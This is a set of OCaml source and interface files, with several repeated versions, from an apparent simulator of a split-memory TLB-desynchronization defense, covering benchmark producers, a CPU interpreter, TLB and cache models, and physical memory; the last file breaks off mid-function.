(** Stand-alone ctxsw overhead vs TLB capacity: flat, because the cost is
    flush-driven (one trap per split page per switch), not reach-driven. *)

val soft_tlb_ablation : ?iters:int -> unit -> float * float
(** Normalized pipe-ctxsw performance of split memory on (x86 TLB-desync
    hardware, software-managed-TLB hardware), each against the stock kernel
    on the same hardware — the paper's §4.7 expectation is that the second
    is noticeably higher. *)
