(** The paper's performance experiments (Figs. 6–9) and ablations as data
    producers; rendering lives in [bench/main.ml].

    Every producer takes [?jobs]: it assembles the experiment specs for
    all the machines it needs and runs them through {!Harness.run_fleet}
    on that many worker domains (default 1 — sequential). Results come
    back in submission order, so the produced points are bit-identical
    for any [jobs]. *)

type point = { x : string; value : float }

val apache_requests : int
val gzip_size : int
val nbench_iters : int
val ctxsw_iters : int

(** {2 Experiment specs} — the building blocks, exposed for composition
    (e.g. [bench --json] fans a custom spec list through the fleet). *)

val apache_spec : defense:Defense.t -> size:int -> requests:int -> Harness.spec
val gzip_spec : defense:Defense.t -> size:int -> Harness.spec
val ctxsw_spec : defense:Defense.t -> iters:int -> Harness.spec

(** {2 Single-machine runners} *)

val run_apache :
  ?obs:Obs.t -> defense:Defense.t -> size:int -> requests:int -> unit -> Harness.result
val run_gzip : ?obs:Obs.t -> defense:Defense.t -> size:int -> unit -> Harness.result
val run_ctxsw : ?obs:Obs.t -> defense:Defense.t -> iters:int -> unit -> Harness.result

(** {2 Normalized scores} *)

val apache_normalized :
  ?jobs:int -> defense:Defense.t -> size:int -> requests:int -> unit -> float
val single_normalized : ?jobs:int -> defense:Defense.t -> Kernel.Image.t -> float
val gzip_normalized : ?jobs:int -> defense:Defense.t -> size:int -> unit -> float
val ctxsw_normalized : ?jobs:int -> defense:Defense.t -> iters:int -> unit -> float

val nbench_results : ?jobs:int -> defense:Defense.t -> unit -> (string * float) list
(** Normalized score per nbench kernel. *)

val unixbench_pieces : ?jobs:int -> defense:Defense.t -> unit -> (string * float) list
(** Normalized score per Unixbench piece. *)

val unixbench_index : ?jobs:int -> defense:Defense.t -> unit -> float
(** Geometric mean of the pieces, Unixbench-style. *)

(** {2 Figures} *)

val fig6 : ?obs:Obs.t -> ?jobs:int -> ?defense:Defense.t -> unit -> point list
(** Apache-32KB, gzip, nbench, Unixbench index under stand-alone split. *)

val fig7 : ?obs:Obs.t -> ?jobs:int -> ?defense:Defense.t -> unit -> point list
(** The contrived stress tests: pipe-based ctxsw and Apache-1KB. *)

val fig8 :
  ?obs:Obs.t -> ?jobs:int -> ?defense:Defense.t -> ?sizes_kb:int list -> unit -> point list
(** Apache throughput across served page sizes. *)

val fig9 : ?obs:Obs.t -> ?jobs:int -> ?fractions:int list -> unit -> point list
(** Pipe-based ctxsw with a fraction of pages split, the rest NX. *)

(** {2 Ablations} *)

val memory_overhead : ?jobs:int -> unit -> int * int * int
(** Peak frames: (unprotected eager, split eager, split demand). *)

val itlb_method_ablation : ?jobs:int -> ?iters:int -> unit -> int * int
(** Pipe-ctxsw cycles: (single-step ITLB load, ret-gadget variant). *)

val mechanisms_ablation : ?jobs:int -> ?iters:int -> unit -> (string * float) list
(** Normalized ctxsw performance of each implementation mechanism
    (tlb-desync software patch, §4.7 soft-TLB port, §3.3.1 dual-CR3
    hardware), each against the stock kernel on its own hardware. *)

val tlb_capacity_sweep :
  ?jobs:int -> ?capacities:int list -> ?iters:int -> unit -> (int * float) list
(** Stand-alone ctxsw overhead vs TLB capacity: flat, because the cost is
    flush-driven (one trap per split page per switch), not reach-driven. *)

val soft_tlb_ablation : ?jobs:int -> ?iters:int -> unit -> float * float
(** Normalized pipe-ctxsw performance of split memory on (x86 TLB-desync
    hardware, software-managed-TLB hardware), each against the stock kernel
    on the same hardware — the paper's §4.7 expectation is that the second
    is noticeably higher. *)
