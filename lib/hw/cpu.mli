(** User-mode CPU interpreter.

    The kernel is not guest code: it runs as host (OCaml) functions invoked
    when [step] reports a fault or a syscall, mirroring the paper's setup
    where the protection mechanism lives entirely in the OS's page-fault and
    debug-interrupt handlers. *)

type regs = {
  gpr : int array;  (** eight GPRs, indexed per {!Isa.Reg.to_int} *)
  mutable eip : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable tf : bool;  (** trap flag: single-step mode (EFLAGS.TF) *)
}

val create_regs : unit -> regs
val copy_regs : regs -> regs
val get : regs -> Isa.Reg.t -> int
val set : regs -> Isa.Reg.t -> int -> unit

type event =
  | Retired  (** instruction completed normally *)
  | Syscall of int  (** [int 0x80] retired; argument is EAX *)

type ctrl_kind =
  | Call_direct  (** [call rel] *)
  | Call_indirect  (** [call reg] *)
  | Return  (** [ret] *)
  | Jump_indirect  (** [jmp reg] *)

val ctrl_kind_name : ctrl_kind -> string

type fault =
  | Page of Mmu.fault
  | Invalid_opcode of { eip : int; opcode : int }
  | General_protection of string

val pp_fault : Format.formatter -> fault -> unit

type step = {
  outcome : (event, fault) result;
  debug_trap : bool;
      (** true when the trap flag was set when the instruction started and
          the instruction retired: a debug interrupt (#DB) must be delivered
          — the hook Algorithm 2 uses to re-restrict the PTE after an
          ITLB load. A faulting instruction raises no debug trap. *)
}

val step :
  ?ctrl:(kind:ctrl_kind -> site:int -> target:int -> ret:int -> bool) ->
  Mmu.t ->
  regs ->
  step
(** Execute one instruction at [regs.eip]. Register state is committed only
    if every memory access succeeds, so faulting instructions can be
    restarted.

    [ctrl] is the control-transfer monitor hook (a CFI defense): it is
    consulted on every [call]/[call reg]/[ret]/[jmp reg] with the site
    (address of the transfer instruction), the proposed target, and the
    fall-through address [ret] (the return address a call pushes). It runs
    after the instruction's memory accesses and before the new eip commits;
    returning [false] turns the transfer into a #GP. When [ctrl] is absent
    the step loop is unchanged and allocation-free. *)

val mask32 : int -> int
val sign32 : int -> int
