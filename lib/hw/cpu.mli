(** User-mode CPU interpreter.

    The kernel is not guest code: it runs as host (OCaml) functions invoked
    when [step] reports a fault or a syscall, mirroring the paper's setup
    where the protection mechanism lives entirely in the OS's page-fault and
    debug-interrupt handlers. *)

type regs = {
  gpr : int array;  (** eight GPRs, indexed per {!Isa.Reg.to_int} *)
  mutable eip : int;
  mutable zf : bool;
  mutable sf : bool;
  mutable tf : bool;  (** trap flag: single-step mode (EFLAGS.TF) *)
}

val create_regs : unit -> regs
val copy_regs : regs -> regs
val get : regs -> Isa.Reg.t -> int
val set : regs -> Isa.Reg.t -> int -> unit

type event =
  | Retired  (** instruction completed normally *)
  | Syscall of int  (** [int 0x80] retired; argument is EAX *)

type ctrl_kind = Exec_env.ctrl_kind =
  | Call_direct  (** [call rel] *)
  | Call_indirect  (** [call reg] *)
  | Return  (** [ret] *)
  | Jump_indirect  (** [jmp reg] *)

val ctrl_kind_name : ctrl_kind -> string

type fault =
  | Page of Mmu.fault
  | Invalid_opcode of { eip : int; opcode : int }
  | General_protection of string

val pp_fault : Format.formatter -> fault -> unit

type step = {
  outcome : (event, fault) result;
  debug_trap : bool;
      (** true when the trap flag was set when the instruction started and
          the instruction retired: a debug interrupt (#DB) must be delivered
          — the hook Algorithm 2 uses to re-restrict the PTE after an
          ITLB load. A faulting instruction raises no debug trap. *)
}

val step :
  ?ctrl:(kind:ctrl_kind -> site:int -> target:int -> ret:int -> bool) ->
  Mmu.t ->
  regs ->
  step
(** Execute one instruction at [regs.eip]. Register state is committed only
    if every memory access succeeds, so faulting instructions can be
    restarted.

    [ctrl] is the control-transfer monitor hook (a CFI defense): it is
    consulted on every [call]/[call reg]/[ret]/[jmp reg] with the site
    (address of the transfer instruction), the proposed target, and the
    fall-through address [ret] (the return address a call pushes). It runs
    after the instruction's memory accesses and before the new eip commits;
    returning [false] turns the transfer into a #GP. When [ctrl] is absent
    the step loop is unchanged and allocation-free. *)

type block_result = {
  attempts : int;
      (** instructions attempted (retired plus the trapping one, if any) —
          the scheduler's quantum/fuel currency, one per [step] the
          per-instruction path would have taken *)
  retired : int;
      (** plainly retired instructions: their cycles are already charged,
          but the caller must flush the batched counters — add [retired]
          to [Cost.insns] and to the retire-rate metric *)
  pending : step option;
      (** the step that ended the run (syscall or fault), still to be
          handed to the kernel's trap dispatch; [None] = budget ran out *)
}

val run_block : Exec_env.t -> Mmu.t -> regs -> max_insns:int -> tick_limit:int -> block_result
(** Dispatch decoded basic blocks from [env]'s {!Bbcache} (which must be
    installed) until an instruction traps, [max_insns] instructions have
    been attempted, or [Cost.cycles] reaches [tick_limit] — the check sits
    before every instruction, exactly where the per-instruction loop calls
    its timer. Bit-identical to iterated {!step}: byte 0 of every
    instruction goes through a real translation (which also revalidates the
    mapping), remaining bytes replay their TLB/icache/sampling effects, and
    retired instructions charge their cycles inline. The caller must not use
    this while the trap flag is set, while a TLB integrity guard is
    installed, or while ECC scrubbing is enabled — those need the
    per-instruction path (and [run_block] never sets [debug_trap]). *)

val mask32 : int -> int
val sign32 : int -> int
