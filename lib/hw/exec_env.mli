(** The execution environment: the one hooks record the CPU dispatch loop
    consults, built once per machine (by {!Mmu.create}, reachable via
    {!Mmu.env}) and mutated in place by its owners — the scheduler arms
    {!t.ctrl}/{!t.retire} per quantum, the profiler installs {!t.sample} on
    attach/detach, the machine installs {!t.cache} at creation. This
    replaces [Cpu.step]'s [?ctrl] optional argument surface and the MMU's
    [sample_hook] field; {!Cpu.step} remains as a thin wrapper for callers
    that pass their own monitor. *)

type access = Fetch | Read | Write
(** Re-exported as {!Mmu.access}; lives here so the sampling hook type can
    be stated below the MMU in the module graph. *)

type ctrl_kind = Call_direct | Call_indirect | Return | Jump_indirect
(** Re-exported as {!Cpu.ctrl_kind}. *)

type ctrl = kind:ctrl_kind -> site:int -> target:int -> ret:int -> bool

type t = {
  mutable ctrl : ctrl option;
      (** control-transfer monitor (a CFI defense): consulted on every
          [call]/[call reg]/[ret]/[jmp reg] after the instruction's memory
          accesses and before the new eip commits; [false] denies the
          transfer (#GP). Armed per quantum. *)
  mutable sample : (access -> int -> bool -> unit) option;
      (** address-sampling hook (lib/prof): [h access vpn tlb_hit] on
          every {e successful} translation, after permission checks. All
          arguments unboxed; [None] costs one branch. When installed, the
          block dispatcher replays fetches byte-at-a-time so decimation
          order is preserved exactly. *)
  mutable retire : int -> unit;
      (** fired with the instruction's eip for every retired (non-trap)
          instruction under block dispatch; the kernel points it at the
          process's forensic trace ring each quantum. [ignore] = off. *)
  mutable cache : Bbcache.t option;
      (** decoded basic-block cache; [None] disables block dispatch. *)
}

val create : unit -> t
(** All hooks off: [ctrl = None], [sample = None], [retire = ignore],
    [cache = None]. *)
