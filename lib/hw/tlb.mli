(** Translation lookaside buffer.

    The machine has two of these — an instruction-TLB and a data-TLB —
    mirroring the split-TLB design of modern x86 parts (paper §4.1.1). The
    split-memory technique works precisely because each TLB caches its own
    (vpn -> frame, permissions) mapping: once an entry is cached, later
    accesses are served from it without consulting the pagetable, so the two
    TLBs can deliberately be driven out of sync. *)

type entry = { vpn : int; frame : int; user : bool; writable : bool; nx : bool }

(** Replacement policy. [Fifo] (the default) keeps the allocation-free hit
    path: entries age in insertion order. [Lru] re-queues a vpn on every
    hit so the least-recently-used live entry is the victim — it retains
    hot pages better but allocates a queue cell per hit, so the
    alloc-gated configurations stay on [Fifo]. *)
type policy = Fifo | Lru

val policy_name : policy -> string

type stats = {
  mutable hits : int;
  mutable misses : int;
  mutable flushes : int;
  mutable invalidations : int;
  mutable evictions : int;
}

type t

val create : ?policy:policy -> name:string -> capacity:int -> unit -> t
(** Default policy: {!Fifo}. *)

val name : t -> string
val capacity : t -> int
val policy : t -> policy
val size : t -> int
val stats : t -> stats

val lookup : t -> int -> entry option
(** Lookup by virtual page number; updates hit/miss statistics. *)

val find : t -> int -> entry
(** Like {!lookup} but without the [option] box: raises the constant
    [Not_found] on a miss. The MMU fast path's allocation-free lookup. *)

val note_hits : t -> int -> int -> unit
(** [note_hits t vpn n] accounts for [n] guaranteed hits on [vpn] without
    performing the lookups: hits advance by [n] and, under {!Lru}, each
    folded hit pushes its recency occurrence exactly as [n] consecutive
    {!find}s would (including compaction timing). The caller must know the
    entry is resident and cannot be evicted across the folded window — the
    block-dispatch contract for the trailing bytes of a page-bounded
    instruction. *)

val peek : t -> int -> entry option
(** Lookup without touching statistics (for tests and assertions). *)

val insert : t -> entry -> unit
(** Insert (replacing any entry for the same vpn); evicts per the
    replacement {!policy} when full. *)

val entries : t -> entry list
(** Live entries sorted by vpn, without touching statistics — the
    fault-injection target list. *)

val tamper : t -> int -> (entry -> entry) -> bool
(** [tamper t vpn f] replaces the entry for [vpn] with [f entry] in place
    (the vpn itself cannot be changed), bypassing statistics and the FIFO
    queue. Returns [false] if no entry is cached for [vpn]. This is the
    fault-injection surface: it models a bit flip inside a TLB cell, not an
    architectural insert. *)

val invalidate : t -> int -> unit
(** [invlpg]: drop the entry for one vpn, if present. *)

val flush : t -> unit
(** Drop everything — what a CR3 reload (context switch) does. *)

type state = {
  s_entries : entry list;  (** live entries, sorted by vpn *)
  s_fifo : int list;  (** raw FIFO replacement queue, front first *)
  s_hits : int;
  s_misses : int;
  s_flushes : int;
  s_invalidations : int;
  s_evictions : int;
}
(** Complete serializable TLB state. The raw FIFO queue (which may contain
    stale or duplicate vpns) is preserved so a restored TLB reproduces the
    original's future eviction order exactly. *)

val export : t -> state
val import : t -> state -> unit
(** Replace the TLB's contents and statistics with [state]. *)

val hit_rate : t -> float
(** [hits / (hits + misses)]; 0 before any lookup. *)

val hit_rate_opt : t -> float option
(** Like {!hit_rate} but [None] before any lookup, so renderers can show
    "no traffic" ([-]) instead of a meaningless 0%. *)

val pp_stats : Format.formatter -> t -> unit
