type stats = {
  mutable hits : int;
  mutable misses : int;
  mutable invalidations : int;
  mutable flushes : int;
}

type t = {
  name : string;
  line_bits : int;
  lines : int;
  (* direct-mapped: set index -> tag *)
  table : int array;
  stats : stats;
}

let create ?(line_bits = 6) ~name ~lines () =
  if lines <= 0 then invalid_arg "Cache.create: lines must be positive";
  {
    name;
    line_bits;
    lines;
    table = Array.make lines (-1);
    stats = { hits = 0; misses = 0; invalidations = 0; flushes = 0 };
  }

let name t = t.name
let stats t = t.stats

let line_of t paddr = paddr lsr t.line_bits
let index_of t line = line mod t.lines

(* Access one physical address; returns true on hit. A miss installs the
   line (allocate-on-miss, no writeback modelling needed for timing). *)
let access t paddr =
  let line = line_of t paddr in
  let idx = index_of t line in
  if t.table.(idx) = line then begin
    t.stats.hits <- t.stats.hits + 1;
    true
  end
  else begin
    t.stats.misses <- t.stats.misses + 1;
    t.table.(idx) <- line;
    false
  end

(* Invalidate the line covering [paddr]; returns true if it was cached —
   the case where x86 coherency hardware must also flush the pipeline. *)
let invalidate t paddr =
  let line = line_of t paddr in
  let idx = index_of t line in
  if t.table.(idx) = line then begin
    t.table.(idx) <- -1;
    t.stats.invalidations <- t.stats.invalidations + 1;
    true
  end
  else false

let flush t =
  Array.fill t.table 0 t.lines (-1);
  t.stats.flushes <- t.stats.flushes + 1

let hit_rate_opt t =
  let total = t.stats.hits + t.stats.misses in
  if total = 0 then None else Some (float_of_int t.stats.hits /. float_of_int total)

let hit_rate t = match hit_rate_opt t with None -> 0.0 | Some r -> r

let pp_stats ppf t =
  Fmt.pf ppf "%s: hits=%d misses=%d flushes=%d invl=%d" t.name t.stats.hits
    t.stats.misses t.stats.flushes t.stats.invalidations
