type entry = { vpn : int; frame : int; user : bool; writable : bool; nx : bool }

type stats = {
  mutable hits : int;
  mutable misses : int;
  mutable flushes : int;
  mutable invalidations : int;
  mutable evictions : int;
}

type t = {
  name : string;
  capacity : int;
  table : (int, entry) Hashtbl.t;
  fifo : int Queue.t;
  stats : stats;
}

let create ~name ~capacity =
  if capacity <= 0 then invalid_arg "Tlb.create: capacity must be positive";
  {
    name;
    capacity;
    table = Hashtbl.create capacity;
    fifo = Queue.create ();
    stats = { hits = 0; misses = 0; flushes = 0; invalidations = 0; evictions = 0 };
  }

let name t = t.name
let capacity t = t.capacity
let size t = Hashtbl.length t.table
let stats t = t.stats

let lookup t vpn =
  match Hashtbl.find_opt t.table vpn with
  | Some e ->
    t.stats.hits <- t.stats.hits + 1;
    Some e
  | None ->
    t.stats.misses <- t.stats.misses + 1;
    None

let peek t vpn = Hashtbl.find_opt t.table vpn

(* FIFO replacement: the queue may contain vpns already invalidated; they are
   skipped when looking for a victim. *)
let rec evict_one t =
  match Queue.take_opt t.fifo with
  | None -> ()
  | Some victim ->
    if Hashtbl.mem t.table victim then begin
      Hashtbl.remove t.table victim;
      t.stats.evictions <- t.stats.evictions + 1
    end
    else evict_one t

let insert t (e : entry) =
  let fresh = not (Hashtbl.mem t.table e.vpn) in
  if fresh && Hashtbl.length t.table >= t.capacity then evict_one t;
  Hashtbl.replace t.table e.vpn e;
  if fresh then Queue.add e.vpn t.fifo

let invalidate t vpn =
  if Hashtbl.mem t.table vpn then begin
    Hashtbl.remove t.table vpn;
    t.stats.invalidations <- t.stats.invalidations + 1
  end

let flush t =
  Hashtbl.reset t.table;
  Queue.clear t.fifo;
  t.stats.flushes <- t.stats.flushes + 1

let hit_rate t =
  let total = t.stats.hits + t.stats.misses in
  if total = 0 then 0.0 else float_of_int t.stats.hits /. float_of_int total

let pp_stats ppf t =
  Fmt.pf ppf "%s: hits=%d misses=%d flushes=%d invl=%d evict=%d" t.name t.stats.hits
    t.stats.misses t.stats.flushes t.stats.invalidations t.stats.evictions
