type entry = { vpn : int; frame : int; user : bool; writable : bool; nx : bool }

type policy = Fifo | Lru

let policy_name = function Fifo -> "fifo" | Lru -> "lru"

type stats = {
  mutable hits : int;
  mutable misses : int;
  mutable flushes : int;
  mutable invalidations : int;
  mutable evictions : int;
}

type t = {
  name : string;
  capacity : int;
  policy : policy;
  table : (int, entry) Hashtbl.t;
  fifo : int Queue.t;
  (* occurrence count of each vpn currently in the queue. Under [Lru] the
     same vpn is re-pushed on every hit; only its *last* occurrence carries
     recency, so [evict_one] must skip a popped vpn whose count says a
     fresher occurrence is still queued. Under [Fifo] counts are 0/1 and the
     logic degenerates to the classic stale-skip. *)
  occ : (int, int) Hashtbl.t;
  stats : stats;
}

let create ?(policy = Fifo) ~name ~capacity () =
  if capacity <= 0 then invalid_arg "Tlb.create: capacity must be positive";
  {
    name;
    capacity;
    policy;
    table = Hashtbl.create capacity;
    fifo = Queue.create ();
    occ = Hashtbl.create capacity;
    stats = { hits = 0; misses = 0; flushes = 0; invalidations = 0; evictions = 0 };
  }

let name t = t.name
let capacity t = t.capacity
let policy t = t.policy
let size t = Hashtbl.length t.table
let stats t = t.stats

let push t vpn =
  Queue.add vpn t.fifo;
  match Hashtbl.find_opt t.occ vpn with
  | None -> Hashtbl.add t.occ vpn 1
  | Some n -> Hashtbl.replace t.occ vpn (n + 1)

(* Under LRU every hit pushes, so the queue would grow without bound;
   compact it deterministically once it exceeds a fixed multiple of
   capacity. Keeping only the *last* occurrence of each live vpn (in
   relative order) preserves the replacement order exactly, so compaction
   is semantically invisible — and because it triggers at a deterministic
   queue length, snapshots taken before/after replay identically. *)
let compact t =
  let raw = Array.of_seq (Queue.to_seq t.fifo) in
  Queue.clear t.fifo;
  Hashtbl.reset t.occ;
  let kept = ref [] in
  let seen = Hashtbl.create t.capacity in
  for i = Array.length raw - 1 downto 0 do
    let vpn = raw.(i) in
    if Hashtbl.mem t.table vpn && not (Hashtbl.mem seen vpn) then begin
      Hashtbl.add seen vpn ();
      kept := vpn :: !kept
    end
  done;
  List.iter (fun vpn -> push t vpn) !kept

(* LRU recency update on a hit. Allocates a queue cell — so [Lru] trades
   the allocation-free hit path for better retention; the alloc-gated
   default stays [Fifo]. *)
let touch t vpn =
  push t vpn;
  if Queue.length t.fifo > 8 * t.capacity then compact t

let lookup t vpn =
  match Hashtbl.find_opt t.table vpn with
  | Some e ->
    t.stats.hits <- t.stats.hits + 1;
    if t.policy = Lru then touch t vpn;
    Some e
  | None ->
    t.stats.misses <- t.stats.misses + 1;
    None

(* Allocation-free hit path for the MMU fast path: no [Some] box per hit,
   and [Not_found] is a constant exception. (Under [Lru] the recency push
   allocates; see [touch].) *)
let find t vpn =
  match Hashtbl.find t.table vpn with
  | e ->
    t.stats.hits <- t.stats.hits + 1;
    if t.policy = Lru then touch t vpn;
    e
  | exception Not_found ->
    t.stats.misses <- t.stats.misses + 1;
    raise Not_found

(* Bulk hit accounting for the block-dispatch fast path: the caller has
   already proven the next [n] lookups of [vpn] would all hit (the entry is
   resident and nothing can evict it in between), so fold them into one
   call. Must stay observably identical to [n] consecutive [find]s: the hit
   counter advances by [n], and under LRU each folded hit still pushes a
   recency occurrence — including the deterministic compaction trigger. *)
let note_hits t vpn n =
  if n > 0 then begin
    t.stats.hits <- t.stats.hits + n;
    if t.policy = Lru then
      for _ = 1 to n do
        touch t vpn
      done
  end

let peek t vpn = Hashtbl.find_opt t.table vpn

(* Replacement: pop until a victim qualifies. A popped vpn is skipped when
   it was already invalidated, or (LRU) when a fresher occurrence remains
   queued — only the last occurrence of a vpn carries its recency. *)
let rec evict_one t =
  match Queue.take_opt t.fifo with
  | None -> ()
  | Some victim ->
    let remaining =
      match Hashtbl.find_opt t.occ victim with Some n -> n - 1 | None -> 0
    in
    if remaining <= 0 then Hashtbl.remove t.occ victim
    else Hashtbl.replace t.occ victim remaining;
    if remaining > 0 then evict_one t
    else if Hashtbl.mem t.table victim then begin
      Hashtbl.remove t.table victim;
      t.stats.evictions <- t.stats.evictions + 1
    end
    else evict_one t

let insert t (e : entry) =
  let fresh = not (Hashtbl.mem t.table e.vpn) in
  if fresh && Hashtbl.length t.table >= t.capacity then evict_one t;
  Hashtbl.replace t.table e.vpn e;
  if fresh then push t e.vpn

(* Fault-injection surface (lib/inject): enumerate and mutate live entries
   without touching statistics or the FIFO replacement queue — a tampered
   entry must age exactly like the original would have. *)
let entries t =
  Hashtbl.fold (fun _ e acc -> e :: acc) t.table []
  |> List.sort (fun a b -> compare a.vpn b.vpn)

let tamper t vpn f =
  match Hashtbl.find_opt t.table vpn with
  | None -> false
  | Some e ->
    let e' = f e in
    Hashtbl.replace t.table vpn { e' with vpn };
    true

let invalidate t vpn =
  if Hashtbl.mem t.table vpn then begin
    Hashtbl.remove t.table vpn;
    t.stats.invalidations <- t.stats.invalidations + 1
  end

let flush t =
  Hashtbl.reset t.table;
  Queue.clear t.fifo;
  Hashtbl.reset t.occ;
  t.stats.flushes <- t.stats.flushes + 1

(* Raw state export for snapshots. The FIFO queue is exported verbatim
   (front first) rather than reconstructed from the live table: it may hold
   stale or duplicate vpns, and replaying eviction order bit-for-bit after a
   restore requires preserving exactly that raw sequence. Entries are listed
   sorted by vpn so that logically identical TLBs export identically
   regardless of hashtable history. *)
type state = {
  s_entries : entry list;
  s_fifo : int list;
  s_hits : int;
  s_misses : int;
  s_flushes : int;
  s_invalidations : int;
  s_evictions : int;
}

let export t =
  let entries =
    Hashtbl.fold (fun _ e acc -> e :: acc) t.table []
    |> List.sort (fun a b -> compare a.vpn b.vpn)
  in
  {
    s_entries = entries;
    s_fifo = List.of_seq (Queue.to_seq t.fifo);
    s_hits = t.stats.hits;
    s_misses = t.stats.misses;
    s_flushes = t.stats.flushes;
    s_invalidations = t.stats.invalidations;
    s_evictions = t.stats.evictions;
  }

let import t (s : state) =
  Hashtbl.reset t.table;
  Queue.clear t.fifo;
  Hashtbl.reset t.occ;
  List.iter (fun e -> Hashtbl.replace t.table e.vpn e) s.s_entries;
  List.iter (fun vpn -> push t vpn) s.s_fifo;
  t.stats.hits <- s.s_hits;
  t.stats.misses <- s.s_misses;
  t.stats.flushes <- s.s_flushes;
  t.stats.invalidations <- s.s_invalidations;
  t.stats.evictions <- s.s_evictions

(* [None] before any lookup: "no accesses yet" is not the same thing as a
   0% hit rate, and rendering layers print it as [-] rather than a bogus
   percentage. *)
let hit_rate_opt t =
  let total = t.stats.hits + t.stats.misses in
  if total = 0 then None else Some (float_of_int t.stats.hits /. float_of_int total)

let hit_rate t = match hit_rate_opt t with None -> 0.0 | Some r -> r

let pp_stats ppf t =
  Fmt.pf ppf "%s: hits=%d misses=%d flushes=%d invl=%d evict=%d" t.name t.stats.hits
    t.stats.misses t.stats.flushes t.stats.invalidations t.stats.evictions
