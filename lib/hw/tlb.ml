type entry = { vpn : int; frame : int; user : bool; writable : bool; nx : bool }

type stats = {
  mutable hits : int;
  mutable misses : int;
  mutable flushes : int;
  mutable invalidations : int;
  mutable evictions : int;
}

type t = {
  name : string;
  capacity : int;
  table : (int, entry) Hashtbl.t;
  fifo : int Queue.t;
  stats : stats;
}

let create ~name ~capacity =
  if capacity <= 0 then invalid_arg "Tlb.create: capacity must be positive";
  {
    name;
    capacity;
    table = Hashtbl.create capacity;
    fifo = Queue.create ();
    stats = { hits = 0; misses = 0; flushes = 0; invalidations = 0; evictions = 0 };
  }

let name t = t.name
let capacity t = t.capacity
let size t = Hashtbl.length t.table
let stats t = t.stats

let lookup t vpn =
  match Hashtbl.find_opt t.table vpn with
  | Some e ->
    t.stats.hits <- t.stats.hits + 1;
    Some e
  | None ->
    t.stats.misses <- t.stats.misses + 1;
    None

(* Allocation-free hit path for the MMU fast path: no [Some] box per hit,
   and [Not_found] is a constant exception. *)
let find t vpn =
  match Hashtbl.find t.table vpn with
  | e ->
    t.stats.hits <- t.stats.hits + 1;
    e
  | exception Not_found ->
    t.stats.misses <- t.stats.misses + 1;
    raise Not_found

let peek t vpn = Hashtbl.find_opt t.table vpn

(* FIFO replacement: the queue may contain vpns already invalidated; they are
   skipped when looking for a victim. *)
let rec evict_one t =
  match Queue.take_opt t.fifo with
  | None -> ()
  | Some victim ->
    if Hashtbl.mem t.table victim then begin
      Hashtbl.remove t.table victim;
      t.stats.evictions <- t.stats.evictions + 1
    end
    else evict_one t

let insert t (e : entry) =
  let fresh = not (Hashtbl.mem t.table e.vpn) in
  if fresh && Hashtbl.length t.table >= t.capacity then evict_one t;
  Hashtbl.replace t.table e.vpn e;
  if fresh then Queue.add e.vpn t.fifo

(* Fault-injection surface (lib/inject): enumerate and mutate live entries
   without touching statistics or the FIFO replacement queue — a tampered
   entry must age exactly like the original would have. *)
let entries t =
  Hashtbl.fold (fun _ e acc -> e :: acc) t.table []
  |> List.sort (fun a b -> compare a.vpn b.vpn)

let tamper t vpn f =
  match Hashtbl.find_opt t.table vpn with
  | None -> false
  | Some e ->
    let e' = f e in
    Hashtbl.replace t.table vpn { e' with vpn };
    true

let invalidate t vpn =
  if Hashtbl.mem t.table vpn then begin
    Hashtbl.remove t.table vpn;
    t.stats.invalidations <- t.stats.invalidations + 1
  end

let flush t =
  Hashtbl.reset t.table;
  Queue.clear t.fifo;
  t.stats.flushes <- t.stats.flushes + 1

(* Raw state export for snapshots. The FIFO queue is exported verbatim
   (front first) rather than reconstructed from the live table: it may hold
   stale or duplicate vpns, and replaying eviction order bit-for-bit after a
   restore requires preserving exactly that raw sequence. Entries are listed
   sorted by vpn so that logically identical TLBs export identically
   regardless of hashtable history. *)
type state = {
  s_entries : entry list;
  s_fifo : int list;
  s_hits : int;
  s_misses : int;
  s_flushes : int;
  s_invalidations : int;
  s_evictions : int;
}

let export t =
  let entries =
    Hashtbl.fold (fun _ e acc -> e :: acc) t.table []
    |> List.sort (fun a b -> compare a.vpn b.vpn)
  in
  {
    s_entries = entries;
    s_fifo = List.of_seq (Queue.to_seq t.fifo);
    s_hits = t.stats.hits;
    s_misses = t.stats.misses;
    s_flushes = t.stats.flushes;
    s_invalidations = t.stats.invalidations;
    s_evictions = t.stats.evictions;
  }

let import t (s : state) =
  Hashtbl.reset t.table;
  Queue.clear t.fifo;
  List.iter (fun e -> Hashtbl.replace t.table e.vpn e) s.s_entries;
  List.iter (fun vpn -> Queue.add vpn t.fifo) s.s_fifo;
  t.stats.hits <- s.s_hits;
  t.stats.misses <- s.s_misses;
  t.stats.flushes <- s.s_flushes;
  t.stats.invalidations <- s.s_invalidations;
  t.stats.evictions <- s.s_evictions

let hit_rate t =
  let total = t.stats.hits + t.stats.misses in
  if total = 0 then 0.0 else float_of_int t.stats.hits /. float_of_int total

let pp_stats ppf t =
  Fmt.pf ppf "%s: hits=%d misses=%d flushes=%d invl=%d evict=%d" t.name t.stats.hits
    t.stats.misses t.stats.flushes t.stats.invalidations t.stats.evictions
