type t = { page_size : int; frames : Bytes.t array }

let create ?(page_size = 4096) ~frames () =
  if frames <= 0 then invalid_arg "Phys.create: frames must be positive";
  { page_size; frames = Array.init frames (fun _ -> Bytes.make page_size '\000') }

let page_size t = t.page_size
let frame_count t = Array.length t.frames

let check t frame off len =
  if frame < 0 || frame >= Array.length t.frames then
    invalid_arg (Fmt.str "Phys: frame %d out of range" frame);
  if off < 0 || off + len > t.page_size then
    invalid_arg (Fmt.str "Phys: offset %d+%d out of page" off len)

let read8 t ~frame ~off =
  check t frame off 1;
  Char.code (Bytes.get t.frames.(frame) off)

let write8 t ~frame ~off v =
  check t frame off 1;
  Bytes.set t.frames.(frame) off (Char.chr (v land 0xFF))

let read32 t ~frame ~off =
  check t frame off 4;
  let b i = Char.code (Bytes.get t.frames.(frame) (off + i)) in
  b 0 lor (b 1 lsl 8) lor (b 2 lsl 16) lor (b 3 lsl 24)

let write32 t ~frame ~off v =
  check t frame off 4;
  let set i x = Bytes.set t.frames.(frame) (off + i) (Char.chr (x land 0xFF)) in
  set 0 v;
  set 1 (v lsr 8);
  set 2 (v lsr 16);
  set 3 (v lsr 24)

let fill t ~frame byte =
  check t frame 0 t.page_size;
  Bytes.fill t.frames.(frame) 0 t.page_size (Char.chr (byte land 0xFF))

let blit_from_string t ~frame ~off s =
  check t frame off (String.length s);
  Bytes.blit_string s 0 t.frames.(frame) off (String.length s)

let to_string t ~frame =
  check t frame 0 t.page_size;
  Bytes.to_string t.frames.(frame)

let is_zero_frame t ~frame =
  check t frame 0 t.page_size;
  let b = t.frames.(frame) in
